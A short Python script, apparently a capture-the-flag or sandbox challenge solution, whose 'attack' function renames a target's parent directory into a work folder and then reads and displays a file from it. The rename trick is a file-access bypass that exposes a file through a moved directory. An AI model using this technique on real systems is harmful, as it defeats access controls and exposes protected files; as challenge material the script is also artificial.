import os

from inside import run, show


def attack(target):
    os.rename(target.parent, f"{target.work}/mine")
    with open(f"{target.work}/mine/{target.name}", "rb") as file:
        show(file.read())


run(attack)
